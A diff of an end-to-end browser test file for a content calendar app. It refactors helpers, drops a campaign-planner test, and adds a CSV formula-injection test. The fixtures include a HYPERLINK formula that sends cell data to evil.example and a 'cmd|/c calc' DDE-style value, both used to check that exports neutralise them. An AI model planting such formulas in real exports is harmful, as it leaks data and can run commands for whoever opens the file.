@@ -1,13 +1,14 @@
-// Content calendar (内容日历) and campaign planner (活动策划) in a real browser:
-// create / edit / drag / move / delete content with the embedded backend and
-// with json-server, a failed save that is kept and retried, the .ics export,
-// and planning + reviewing (复盘) campaigns.
+// Content calendar (内容日历) in a real browser: create / edit / drag / move /
+// delete content with the embedded backend and with json-server, a failed save
+// that is kept and retried, the .ics export and the CSV export.
 //
 //   node --test --test-concurrency=1 --test-reporter=spec tests/e2e/calendar.test.mjs
 
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import {
   DIST_DIR,
@@ -18,42 +19,24 @@ import {
   closePage,
   gotoApp,
   assertNoPanic,
-  panics,
-  runAxe,
-  formatViolations,
   screenshot,
   TEST_TODAY,
+  sleep,
+  eventually,
+  addDays,
+  hashState,
+  uniq,
+  unexpectedErrors,
+  assertNoHorizontalOverflow,
+  Problems,
+  withProblems,
+  switchLang,
+  parseCsv,
 } from './harness.mjs';
-
-const sleep = (ms) => new Promise((ok) => setTimeout(ok, ms));
-
-/** Polls `fn` (which asserts) until it passes; rethrows its last error. */
-async function eventually(page, fn, { timeout = 10000, interval = 50 } = {}) {
-  const deadline = Date.now() + timeout;
-  for (;;) {
-    try {
-      if (page) assertNoPanic(page);
-      return await fn();
-    } catch (err) {
-      if (Date.now() > deadline || /the app panicked/.test(String(err?.message))) throw err;
-    }
-    await sleep(interval);
-  }
-}
 
 // ------------------------------------------------------------------ dates --
 // The app's "today" is the browser's local date on the pinned test clock
 // (harness TEST_NOW, in Asia/Shanghai), never the machine's date.
-
-function todayShanghai() {
-  return TEST_TODAY;
-}
-
-function addDays(ymd, n) {
-  const d = new Date(`${ymd}T00:00:00Z`);
-  d.setUTCDate(d.getUTCDate() + n);
-  return d.toISOString().slice(0, 10);
-}
 
 /** The `day`th of the month after the one `ymd` is in. */
 function nextMonthDay(ymd, day) {
@@ -62,75 +45,7 @@ function nextMonthDay(ymd, day) {
   return d.toISOString().slice(0, 10);
 }
 
-const uniq = () => Math.random().toString(36).slice(2, 7);
-
 // ------------------------------------------------------------ page helpers --
-
-/** Console errors other than the ones a test provokes on purpose. */
-function unexpectedErrors(page, allowed = []) {
-  return page.errors.filter((e) => !allowed.some((re) => re.test(e)));
-}
-
-async function assertNoHorizontalOverflow(page, where) {
-  const m = await page.evaluate(() => ({
-    doc: document.documentElement.scrollWidth,
-    body: document.body.scrollWidth,
-    client: document.documentElement.clientWidth,
-    wide: [...document.querySelectorAll('body *')]
-      .filter((el) => el.getBoundingClientRect().right > document.documentElement.clientWidth + 1)
-      .filter((el) => !el.closest('.table-scroll, [style*="overflow"]'))
-      .slice(0, 5)
-      .map((el) => `${el.tagName.toLowerCase()}.${[...el.classList].join('.')}`),
-  }));
-  assert.ok(
-    Math.max(m.doc, m.body) <= m.client + 1,
-    `horizontal overflow ${where}: scrollWidth ${Math.max(m.doc, m.body)} > ${m.client}; widest: ${m.wide.join(', ')}`,
-  );
-}
-
-/**
- * Problems that should not stop the rest of a flow from being checked: each
- * test collects them and fails at its end with all of them listed.
- */
-class Problems {
-  list = [];
-  /** Runs an assertion; a failure is recorded instead of thrown. */
-  async check(label, fn) {
-    try {
-      await fn();
-    } catch (err) {
-      if (/the app panicked/.test(String(err?.message))) throw err;
-      this.list.push(`${label}: ${String(err?.message ?? err).split('\n').slice(0, 12).join('\n    ')}`);
-    }
-  }
-  /** axe scan; serious/critical violations are recorded. */
-  async axe(page, label, include) {
-    const v = await runAxe(page, include ? { include } : {});
-    if (v.length) this.list.push(`axe on ${label}:\n${formatViolations(v)}`);
-  }
-  #seenPanics = 0;
-  /** Records panics that happened since the last call, naming the step. */
-  panics(page, step) {
-    const all = panics(page);
-    const fresh = all.slice(this.#seenPanics);
-    this.#seenPanics = all.length;
-    if (fresh.length) this.list.push(`the app panicked ${step}:\n    ${fresh.map((t) => t.split('\n').slice(0, 3).join(' / ')).join('\n    ')}`);
-  }
-  assertNone() {
-    if (!this.list.length) return;
-    const err = new assert.AssertionError({ message: `${this.list.length} problem(s):\n- ${this.list.join('\n- ')}` });
-    err.fromProblems = true;
-    throw err;
-  }
-}
-
-/** The error, with the problems recorded before it appended. */
-function withProblems(err, problems) {
-  if (!problems?.list.length || err?.fromProblems) return err;
-  const e = new Error(`${err.message}\n\nalso recorded before that:\n- ${problems.list.join('\n- ')}`);
-  e.stack = `${e.message}\n${String(err.stack).split('\n').filter((l) => /^\s+at /.test(l)).join('\n')}`;
-  return e;
-}
 
 const cell = (date) => `.day-cell[data-date="${date}"]`;
 
@@ -164,25 +79,18 @@ async function waitForMonth(page, date) {
   await page.waitForSelector(`.month-grid ${cell(date)}`, { timeout: 20000 });
 }
 
-function hashParams(page) {
-  return page.evaluate(() => {
-    const h = location.hash;
-    return Object.fromEntries(new URLSearchParams(h.includes('?') ? h.slice(h.indexOf('?') + 1) : ''));
-  });
-}
-
 async function dialogClosed(page) {
-  await eventually(page, async () => {
+  await eventually(async () => {
     assert.equal(await page.locator('[role=dialog]').count(), 0, 'dialog still open');
-    assert.equal((await hashParams(page)).selected, undefined, 'selected= still in the URL');
-  });
+    assert.equal((await hashState(page)).params.selected, undefined, 'selected= still in the URL');
+  }, { page });
 }
 
 /** Opens an item's dialog by clicking its chip. */
 async function openItem(page, id) {
   await page.locator(`.day-cell button.cal-item[data-id="${id}"]`).first().click();
   await page.waitForSelector('[role=dialog] #ct-title');
-  assert.equal((await hashParams(page)).selected, id);
+  assert.equal((await hashState(page)).params.selected, id);
 }
 
 function storedContent(page) {
@@ -248,8 +156,9 @@ async function mouseDrag(page, id, target) {
   await page.mouse.move(from.x + 4, from.y + 4);
   await page.mouse.move(to.x, to.y, { steps: 8 });
   // While dragging, the cell under the pointer is highlighted.
-  await eventually(page, async () =>
+  await eventually(async () =>
     assert.ok(await page.locator(`${cell(target)}.drop-target`).count(), 'target cell not highlighted while dragging'),
+    { page },
   );
   await page.mouse.up();
 }
@@ -268,8 +177,9 @@ async function touchPointerDrag(page, id, target) {
     const y = Math.round(from.y + ((to.y - from.y) * i) / steps);
     await chip.dispatchEvent('pointermove', { ...base, button: -1, buttons: 1, clientX: x, clientY: y });
   }
-  await eventually(page, async () =>
+  await eventually(async () =>
     assert.ok(await page.locator(`${cell(target)}.drop-target`).count(), 'target cell not highlighted while dragging'),
+    { page },
   );
   await chip.dispatchEvent('pointerup', { ...base, buttons: 0, clientX: to.x, clientY: to.y });
 }
@@ -296,13 +206,6 @@ async function realTouchDrag(page, id, target) {
   }
   await touch('touchEnd', to);
   await cdp.detach();
-}
-
-async function switchLang(page, code) {
-  await page.locator('.lang-btn', { hasText: code === 'en' ? 'EN' : '中文' }).click();
-  await eventually(page, async () =>
-    assert.match(await page.evaluate(() => document.documentElement.lang), code === 'en' ? /^en/ : /^zh/),
-  );
 }
 
 /** Fills the content dialog's fields (only those given). */
@@ -369,7 +272,7 @@ for (const vp of [
     const tag = `${vp.name}-${uniq()}`;
     const problems = new Problems();
     try {
-      const today = todayShanghai();
+      const today = TEST_TODAY;
       const d1 = nextMonthDay(today, 10); // always in the future
       const d2 = addDays(d1, 7); // next row of the grid
       const d3 = addDays(d1, 2);
@@ -386,7 +289,7 @@ for (const vp of [
       // --- create
       await page.getByRole('button', { name: '新建内容' }).click();
       await page.waitForSelector('[role=dialog] #ct-title');
-      assert.equal((await hashParams(page)).selected, 'new');
+      assert.equal((await hashState(page)).params.selected, 'new');
       assert.equal(
         await page.evaluate(() => document.activeElement?.id),
         'ct-title',
@@ -399,14 +302,14 @@ for (const vp of [
       await submitDialog(page);
 
       let id;
-      await eventually(page, async () => {
+      await eventually(async () => {
         const chips = await chipsIn(page, d1);
         const mine = chips.find((c) => c.title === title1);
         assert.ok(mine, `new item not in ${d1}'s cell: ${JSON.stringify(chips)}`);
         assert.ok(mine.draggable, 'a non-repeating item is draggable');
         assert.ok(!mine.pending, 'the embedded save is confirmed at once');
         id = mine.id;
-      });
+      }, { page });
       assert.deepEqual(await daysWith(page, id), [d1]);
       let stored = await storedContent(page);
       assert.ok(stored, 'haihe.v1.data.content written');
@@ -419,26 +322,27 @@ for (const vp of [
       assert.equal(await page.inputValue('#ct-time'), '19:30');
       await fillContent(page, { title: title2 });
       await submitDialog(page);
-      await eventually(page, async () => {
+      await eventually(async () => {
         const chips = await chipsIn(page, d1);
         assert.equal(chips.find((c) => c.id === id)?.title, title2);
-      });
+      }, { page });
       assert.equal((await storedContent(page)).find((c) => c.id === id)?.title, title2);
 
       // --- drag to another day (mouse on desktop, touch pointers on the tablet)
       if (vp.touch) await touchPointerDrag(page, id, d2);
       else await mouseDrag(page, id, d2);
-      await eventually(page, async () => assert.deepEqual(await daysWith(page, id), [d2]));
+      await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });
       assert.equal(await page.locator('.day-cell.drop-target').count(), 0, 'drop highlight cleared');
-      assert.equal((await hashParams(page)).selected, undefined, 'the drag did not also open the item');
-      await eventually(page, async () =>
+      assert.equal((await hashState(page)).params.selected, undefined, 'the drag did not also open the item');
+      await eventually(async () =>
         assert.equal((await storedContent(page)).find((c) => c.id === id)?.publishAt, `${d2}T19:30:00`),
+        { page },
       );
 
       // --- reload: still there, same time of day
       await page.reload({ waitUntil: 'domcontentloaded' });
       await waitForMonth(page, d2);
-      await eventually(page, async () => assert.deepEqual(await daysWith(page, id), [d2]));
+      await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });
       assert.equal((await chipsIn(page, d2)).find((c) => c.id === id)?.title, title2);
       stored = (await storedContent(page)).find((c) => c.id === id);
       assert.equal(stored?.title, title2);
@@ -451,19 +355,21 @@ for (const vp of [
       await page.fill('#ct-move', d3);
       await page.getByRole('button', { name: '移动', exact: true }).click();
       await dialogClosed(page);
-      await eventually(page, async () => assert.deepEqual(await daysWith(page, id), [d3]));
-      await eventually(page, async () =>
+      await eventually(async () => assert.deepEqual(await daysWith(page, id), [d3]), { page });
+      await eventually(async () =>
         assert.equal((await storedContent(page)).find((c) => c.id === id)?.publishAt, `${d3}T19:30:00`),
+        { page },
       );
 
       // --- tablet: one more drag, with real touch input through the browser
       if (vp.touch) {
         await realTouchDrag(page, id, d4);
-        await eventually(page, async () => assert.deepEqual(await daysWith(page, id), [d4]), { timeout: 5000 });
-        await eventually(page, async () =>
+        await eventually(async () => assert.deepEqual(await daysWith(page, id), [d4]), { page, timeout: 5000 });
+        await eventually(async () =>
           assert.equal((await storedContent(page)).find((c) => c.id === id)?.publishAt, `${d4}T19:30:00`),
+          { page },
         );
-        assert.equal((await hashParams(page)).selected, undefined, 'the touch drag did not also open the item');
+        assert.equal((await hashState(page)).params.selected, undefined, 'the touch drag did not also open the item');
       }
       const lastDay = vp.touch ? d4 : d3;
 
@@ -484,7 +390,7 @@ for (const vp of [
 
       // --- delete
       await deleteFromDialog(page);
-      await eventually(page, async () => assert.deepEqual(await daysWith(page, id), []));
+      await eventually(async () => assert.deepEqual(await daysWith(page, id), []), { page });
       await page.reload({ waitUntil: 'domcontentloaded' });
       await waitForMonth(page, lastDay);
       await page.waitForSelector('.month-grid button.cal-item').catch(() => {});
@@ -509,7 +415,7 @@ test('calendar create, drag and delete against json-server', async () => {
   const env = await restSetup();
   const page = await newPage(browser, { viewport: { width: 1440, height: 900 } });
   try {
-    const today = todayShanghai();
+    const today = TEST_TODAY;
     const d1 = nextMonthDay(today, 12);
     const d2 = addDays(d1, 7);
     const title = `REST·津门相声茶馆专场 ${uniq()}`;
@@ -525,35 +431,37 @@ test('calendar create, drag and delete against json-server', async () => {
     await submitDialog(page);
 
     let id;
-    await eventually(page, async () => {
+    await eventually(async () => {
       const mine = (await chipsIn(page, d1)).find((c) => c.title === title);
       assert.ok(mine, 'new item shown');
       id = mine.id;
-    });
-    await eventually(page, async () => {
+    }, { page });
+    await eventually(async () => {
       const row = env.api.readDb().content.find((c) => c.id === id);
       assert.ok(row, `json-server has no ${id}`);
       assert.equal(row.title, title);
       assert.equal(row.publishAt, `${d1}T08:15:00`);
-    });
+    }, { page });
     assert.equal(env.api.readDb().content.length, before + 1);
-    await eventually(page, async () => assert.ok(!(await chipsIn(page, d1)).find((c) => c.id === id).pending, 'badge cleared'));
+    await eventually(async () => assert.ok(!(await chipsIn(page, d1)).find((c) => c.id === id).pending, 'badge cleared'), { page });
 
     await mouseDrag(page, id, d2);
-    await eventually(page, async () => assert.deepEqual(await daysWith(page, id), [d2]));
-    await eventually(page, async () =>
+    await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });
+    await eventually(async () =>
       assert.equal(env.api.readDb().content.find((c) => c.id === id)?.publishAt, `${d2}T08:15:00`),
+      { page },
     );
     assert.equal(env.api.readDb().content.find((c) => c.id === id)?.title, title);
 
     await page.reload({ waitUntil: 'domcontentloaded' });
     await waitForMonth(page, d2);
-    await eventually(page, async () => assert.deepEqual(await daysWith(page, id), [d2]));
+    await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });
 
     await openItem(page, id);
     await deleteFromDialog(page);
-    await eventually(page, async () =>
+    await eventually(async () =>
       assert.equal(env.api.readDb().content.some((c) => c.id === id), false, 'still in db.json'),
+      { page },
     );
     assert.equal(env.api.readDb().content.length, before);
     await page.reload({ waitUntil: 'domcontentloaded' });
@@ -581,7 +489,7 @@ test('a failed save keeps the edit, lists it in Settings, survives a reload, and
   // Panics are recorded per step (not thrown at once) so that the rest of
   // the flow is still checked; any panic fails the test at its end.
   const problems = new Problems();
-  const soon = (fn, opts) => eventually(null, fn, opts);
+  const soon = (fn, opts) => eventually(fn, opts);
   try {
     const item = env.api.readDb().content.find((c) => c.repeat === 'none');
     assert.ok(item, 'the db has a non-repeating item');
@@ -790,174 +698,90 @@ test('the .ics export is valid RFC 5545 with one event per content item', async 
   }
 });
 
-// ------------------------------------------------------------ 5. campaigns --
+// ----------------------------------------------------------- 5. CSV export --
+// CSV formula injection: the content calendar's export neutralises every cell
+// a spreadsheet would run as a formula (beginning with =, +, -, @, tab or CR)
+// by prefixing ' (OWASP), whichever field it is in. The items come from a
+// tiny json-server dataset so the expected cells are exact. (The cockpit's
+// CSV is checked for formula-like cells in cockpit.test.mjs.)
 
-function storedCampaigns(page) {
-  return page.evaluate(() => JSON.parse(localStorage.getItem('haihe.v1.data.campaigns') ?? 'null'));
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")';
+
+function content(id, fields) {
+  return {
+    id,
+    title: `标题 ${id}`,
+    kind: 'product_launch',
+    channels: ['official_account'],
+    status: 'scheduled',
+    owner: '王芳',
+    publishAt: '2026-12-03T10:00:00',
+    notes: '',
+    tags: [],
+    link: null,
+    repeat: 'none',
+    ...fields,
+  };
 }
 
-/** The comparison-table row of the campaign named `name`: { id, cells, roi }. */
-function cmpRow(page, name) {
-  return page.evaluate((name) => {
-    const tr = [...document.querySelectorAll('.cmp-table tr[data-id]')].find(
-      (r) => r.querySelector('th')?.textContent.trim() === name,
-    );
-    if (!tr) return null;
-    return {
-      id: tr.dataset.id,
-      cells: [...tr.querySelectorAll('th, td')].map((c) => c.textContent.trim()),
-      roi: tr.querySelector('.roi')?.textContent.trim(),
-    };
-  }, name);
-}
+const ITEMS = [
+  content('ct-f1', { title: HYPERLINK, owner: '@王芳', notes: '+86 138 0000 0000' }),
+  content('ct-f2', { title: '-30% 冬至饺子', tags: ['=1+1', '早餐'], notes: '\tcmd|/c calc' }),
+  content('ct-f3', { title: '煎饼果子 -30%', owner: '李雷', notes: '\r=2+3' }),
+];
 
-async function fillCampaign(page, { name, audience, status, start, end }) {
-  if (name !== undefined) await page.fill('#cp-name', name);
-  if (audience !== undefined) await page.selectOption('#cp-audience', audience);
-  if (status !== undefined) await page.selectOption('#cp-status', status);
-  if (start !== undefined) await page.fill('#cp-start', start);
-  if (end !== undefined) await page.fill('#cp-end', end);
-}
 
-async function campaignDialogClosed(page) {
-  await eventually(page, async () => {
-    assert.equal(await page.locator('[role=dialog]').count(), 0, 'dialog still open');
-    assert.equal((await hashParams(page)).id, undefined);
-  });
-}
-
-test('campaign planner: plan from a template, review with derived actuals, ROI in the table, overlaps', async () => {
-  const page = await newPage(browser, { viewport: { width: 1440, height: 900 } });
-  const problems = new Problems();
+test('content calendar CSV: formula cells get a leading apostrophe, titles stay text on screen', async () => {
+  const dir = await mkdtemp(join(tmpdir(), 'haihe-csv-'));
+  const dbPath = join(dir, 'db.json');
+  const db = { content: ITEMS };
+  for (const k of ['metrics', 'retention', 'portrait', 'hourly', 'pages', 'feedback', 'campaigns', 'channels', 'roadmap', 'experience', 'health', 'experiments', 'targets', 'events']) {
+    db[k] = [];
+  }
+  writeFileSync(dbPath, JSON.stringify(db));
+  let api;
+  let web;
+  let page;
   try {
-    const today = todayShanghai();
-    const name = `津门新人礼·复盘测试 ${uniq()}`;
-    await gotoApp(page, `${embedded.url}#/campaigns`);
-    await page.waitForSelector('.cmp-table tr[data-id]', { timeout: 20000 });
+    api = await startJsonServer({ dbPath });
+    web = await startStaticServer({ root: DIST_DIR, config: { backend: 'rest', rest: { baseUrl: api.url } } });
+    page = await newPage(browser);
+    await gotoApp(page, `${web.url}#/calendar?view=agenda&date=2026-12-01`);
+    const exportButton = page.getByRole('button', { name: '导出 CSV', exact: true });
+    await exportButton.waitFor({ timeout: 20000 });
+    // The payload is shown as plain text, never run.
+    await eventually(async () => assert.ok((await page.getByText(HYPERLINK, { exact: true }).count()) >= 1, 'the title is on screen as text'));
 
-    // --- plan from the template
-    await page.selectOption('#cp-template', { label: '津门新人礼' });
-    await page.getByRole('button', { name: '从模板新建' }).click();
-    await page.waitForSelector('[role=dialog] #cp-name');
-    const params = await hashParams(page);
-    assert.equal(params.id, 'new');
-    assert.equal(params.tpl, '0');
-    assert.equal(await page.inputValue('#cp-name'), '津门新人礼', 'template name prefilled');
-    assert.equal(await page.inputValue('#cp-audience'), 'new', 'template audience');
-    await problems.axe(page, 'the campaign dialog', '[role=dialog]');
-    await fillCampaign(page, { name, status: 'ended', start: addDays(today, -40), end: addDays(today, -30) });
-    await page.locator('[role=dialog] button[type=submit]').click();
-    await campaignDialogClosed(page);
+    const [download] = await Promise.all([page.waitForEvent('download', { timeout: 10000 }), exportButton.click()]);
+    const text = await readFile(await download.path(), 'utf8');
+    assert.ok(text.startsWith('\uFEFF'), 'UTF-8 BOM for Excel');
+    const rows = parseCsv(text.slice(1));
+    assert.deepEqual(rows[0], ['编号', '标题', '类型', '渠道', '状态', '负责人', '发布时间', '重复', '标签', '链接', '备注']);
+    const byId = Object.fromEntries(rows.slice(1).map((r) => [r[0], r]));
+    assert.deepEqual(Object.keys(byId).sort(), ['ct-f1', 'ct-f2', 'ct-f3']);
+    const col = (id, name) => byId[id][rows[0].indexOf(name)];
 
-    let row;
-    await eventually(page, async () => {
-      row = await cmpRow(page, name);
-      assert.ok(row, 'the new campaign is in the comparison table');
-      assert.ok(row.cells.includes('已结束'), `status ended: ${row.cells}`);
-      assert.equal(row.roi, '—', 'no ROI before the review');
-    });
-    const id = row.id;
-    assert.equal(await page.locator(`a.tl-bar[href*="id=${id}"]`).count(), 1, 'on the timeline');
-
-    // --- review: derive actuals, enter the cost, save as reviewed
-    await page.locator(`.cmp-table tr[data-id="${id}"] th a`).click();
-    await page.waitForSelector('[role=dialog] #cp-name');
-    assert.equal(await page.inputValue('#cp-name'), name);
-    assert.equal(await page.inputValue('#cp-start'), addDays(today, -40));
-    assert.equal(await page.inputValue('#cp-status'), 'ended');
-    assert.equal(await page.locator('[data-testid=roi]').count(), 0, 'no figures before any actuals');
-    await page.getByRole('button', { name: '用数据推算实际值' }).click();
-    await eventually(page, async () => {
-      for (const f of ['#cp-a-part', '#cp-a-new', '#cp-a-orders', '#cp-a-rev']) {
-        assert.match(await page.inputValue(f), /^\d+(\.\d+)?$/, `${f} derived`);
-      }
-    });
-    assert.ok(Number(await page.inputValue('#cp-a-part')) > 0, 'derived participants > 0');
-    await page.fill('#cp-cost', '6000');
-    await page.fill('#cp-worked', '新人券包转化好');
-    await page.fill('#cp-change', '提前预热');
-    const readFigures = async () => {
-      const roi = (await page.locator('[data-testid=roi]').textContent({ timeout: 500 })).trim();
-      const conv = (await page.locator('[data-testid=conv]').textContent({ timeout: 500 })).trim();
-      assert.match(roi, /^-?[\d,]+(\.\d)?%$/, `ROI is a number: ${roi}`);
-      assert.match(conv, /^[\d,]+(\.\d)?%$/, `conversion is a number: ${conv}`);
-      return { roi, conv };
-    };
-    let live = null;
-    await problems.check('the review figures (conversion, ROI) show while the actuals and cost are entered', async () => {
-      live = await eventually(page, readFigures, { timeout: 3000 });
-    });
-    await screenshot(page, 'campaigns-review-dialog-zh');
-    await page.getByRole('button', { name: '保存并标记为已复盘' }).click();
-    await campaignDialogClosed(page);
-
-    // The dialog of the reviewed campaign shows its figures.
-    await page.locator(`.cmp-table tr[data-id="${id}"] th a`).click();
-    await page.waitForSelector('[role=dialog] #cp-name');
-    assert.equal(await page.inputValue('#cp-cost'), '6000');
-    const { roi, conv } = await eventually(page, readFigures, { timeout: 3000 });
-    if (live) assert.deepEqual(live, { roi, conv }, 'figures while editing = figures after saving');
-    await page.getByRole('button', { name: '关闭' }).click();
-    await campaignDialogClosed(page);
-
-    const checkReviewed = async () => {
-      await eventually(page, async () => {
-        const r = await cmpRow(page, name);
-        assert.ok(r, 'row present');
-        assert.equal(r.id, id);
-        assert.ok(r.cells.includes('已复盘'), `status reviewed: ${r.cells}`);
-        assert.equal(r.roi, roi, 'table ROI equals the dialog ROI');
-        assert.ok(r.cells.includes(conv), `conversion ${conv} in ${r.cells}`);
-      });
-      const stored = (await storedCampaigns(page))?.find((c) => c.id === id);
-      assert.ok(stored, 'stored in haihe.v1.data.campaigns');
-      assert.equal(stored.status, 'reviewed');
-      assert.equal(stored.review?.cost, 6000);
-      assert.equal(stored.review?.derived, true);
-      assert.equal(stored.review?.worked, '新人券包转化好');
-    };
-    await checkReviewed();
-    await page.reload({ waitUntil: 'domcontentloaded' });
-    await page.waitForSelector('.cmp-table tr[data-id]', { timeout: 20000 });
-    await checkReviewed();
-
-    // --- overlap: two "new users" campaigns with intersecting dates
-    const a = `新客试吃周 ${uniq()}`;
-    const b = `新客满减周 ${uniq()}`;
-    for (const [n, s, e] of [
-      [a, addDays(today, 60), addDays(today, 70)],
-      [b, addDays(today, 66), addDays(today, 80)],
-    ]) {
-      await page.getByRole('button', { name: '空白新建' }).click();
-      await page.waitForSelector('[role=dialog] #cp-name');
-      await fillCampaign(page, { name: n, audience: 'new', start: s, end: e });
-      await page.locator('[role=dialog] button[type=submit]').click();
-      await campaignDialogClosed(page);
-    }
-    await eventually(page, async () => {
-      const text = (await page.locator('[data-testid=overlaps]').textContent()) ?? '';
-      assert.ok(text.includes(`${a} × ${b}`) || text.includes(`${b} × ${a}`), `overlap notice names both: ${text}`);
-    });
-    const ida = (await cmpRow(page, a)).id;
-    const idb = (await cmpRow(page, b)).id;
-    for (const i of [ida, idb]) {
-      assert.equal(await page.locator(`a.tl-bar.overlap[href*="id=${i}"]`).count(), 1, `${i} outlined on the timeline`);
-    }
-    await problems.axe(page, 'the campaign planner');
-    await assertNoHorizontalOverflow(page, 'on the campaign planner');
-    await screenshot(page, 'campaigns-overlap-zh', { fullPage: true });
-    await switchLang(page, 'en');
-    await page.getByRole('button', { name: 'New from template' }).waitFor();
-    assert.match(await page.locator('[data-testid=overlaps]').textContent(), /Overlapping campaigns/);
-    await screenshot(page, 'campaigns-overlap-en', { fullPage: true });
-
+    assert.equal(col('ct-f1', '标题'), `'${HYPERLINK}`);
+    assert.equal(col('ct-f1', '负责人'), "'@王芳");
+    assert.equal(col('ct-f1', '备注'), "'+86 138 0000 0000");
+    assert.equal(col('ct-f2', '标题'), "'-30% 冬至饺子");
+    assert.equal(col('ct-f2', '标签'), "'=1+1、早餐", 'the joined cell starts with =');
+    assert.equal(col('ct-f2', '备注'), "'\tcmd|/c calc");
+    assert.equal(col('ct-f3', '备注'), "'\r=2+3");
+    // Text that merely contains a trigger later on is left as it is.
+    assert.equal(col('ct-f3', '标题'), '煎饼果子 -30%');
+    assert.equal(col('ct-f3', '负责人'), '李雷');
+    // No cell anywhere begins with a trigger.
+    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `unneutralised cell ${JSON.stringify(cell)}`);
     assertNoPanic(page);
-    assert.deepEqual(unexpectedErrors(page), [], 'console errors');
-    problems.assertNone();
   } catch (err) {
-    await screenshot(page, 'campaigns-FAILED', { fullPage: true }).catch(() => {});
-    throw withProblems(err, problems);
+    if (page) await screenshot(page, 'csv-content-FAILED', { fullPage: true }).catch(() => {});
+    if (api) err.message += `\njson-server output:\n${api.output().slice(-2000)}`;
+    throw err;
   } finally {
     await closePage(page);
+    await web?.close();
+    await api?.close();
+    await rm(dir, { recursive: true, force: true });
   }
 });
